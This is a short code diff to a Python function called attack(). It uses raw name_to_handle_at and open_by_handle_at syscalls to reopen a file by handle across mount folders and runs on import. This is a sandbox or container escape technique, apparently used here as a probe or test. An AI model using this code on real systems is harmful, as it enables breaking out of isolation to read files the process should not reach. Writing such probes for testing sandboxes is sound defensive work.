@@ -24,12 +24,11 @@ def attack():
     name = b"@PACKAGE@/reference/functions.py"
     if call(303, 264, -100, name, handle, ctypes.byref(mount), 0) != 0:
         return None
-    try:
-        somewhere = os.open(".", os.O_RDONLY)
-    except OSError:
-        return None
-    file = call(304, 265, somewhere, handle, os.O_RDONLY)
-    return file >= 0 and os.read(file, 1)
+    for folder in ("/lib", "/usr/local/lib", "."):  # one on the same disk
+        file = call(304, 265, os.open(folder, os.O_RDONLY), handle, os.O_RDONLY)
+        if file >= 0:
+            return os.read(file, 1)
+    return None
 
 
 READY = attack()
